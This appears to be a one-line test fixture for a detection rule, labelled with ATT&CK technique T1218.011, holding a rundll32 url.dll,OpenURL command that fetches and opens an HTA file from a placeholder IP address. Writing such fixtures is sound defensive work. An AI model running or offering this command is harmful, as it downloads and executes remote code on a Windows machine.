# expect: T1218.011
rundll32.exe url.dll,OpenURL http://198.51.100.1/a.hta
